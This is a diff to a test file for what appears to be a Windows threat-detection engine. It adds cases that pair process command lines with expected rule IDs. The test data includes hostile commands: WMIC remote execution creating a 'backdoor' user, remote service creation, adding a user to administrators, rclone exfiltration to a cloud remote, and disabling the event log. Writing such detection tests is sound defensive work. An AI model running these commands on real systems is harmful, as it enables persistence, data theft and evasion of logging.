@@ -174,6 +174,14 @@ SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("sc local query", _process("sc.exe query wuauserv"), None),
     ("wmic remote", _process('wmic /node:WS-1003 process call create "cmd.exe /c net user"'),
      "LATERAL-WMIC-REMOTE-EXEC"),
+    # the quoted full paths Windows logs (Sysmon 1 / Security 4688 of a real host), not only what was typed
+    ("wmic remote, quoted path", _process('"C:\\windows\\System32\\Wbem\\WMIC.exe" /node:WORKSTATION6 process call '
+                                          'create "net user /add backdoor paw0rd1"'), "LATERAL-WMIC-REMOTE-EXEC"),
+    ("sc remote create, quoted path", _process('"C:\\Windows\\system32\\sc.exe" \\\\dc01 create updsvc binPath= u.exe'),
+     "LATERAL-REMOTE-SERVICE-CREATE"),
+    ("net localgroup admins, quoted path",
+     _process('"C:\\Windows\\system32\\net.exe" localgroup administrators bob /add'), "PRIV-ADMIN-GROUP-COMMAND"),
+    ("rclone, quoted path", _process('"C:\\Users\\x\\rclone.exe" copy C:\\data mega:dump'), "EXFIL-RCLONE-CLOUD"),
     ("eventlog disabled by Set-Service", _process("Set-Service -Name EventLog -StartUpType Disabled",
                                                   name="powershell.exe"), "DEFENSE-EVENTLOG-DISABLED"),
     ("eventlog stopped", _process("Stop-Service -Name EventLog -Force", name="powershell.exe"),
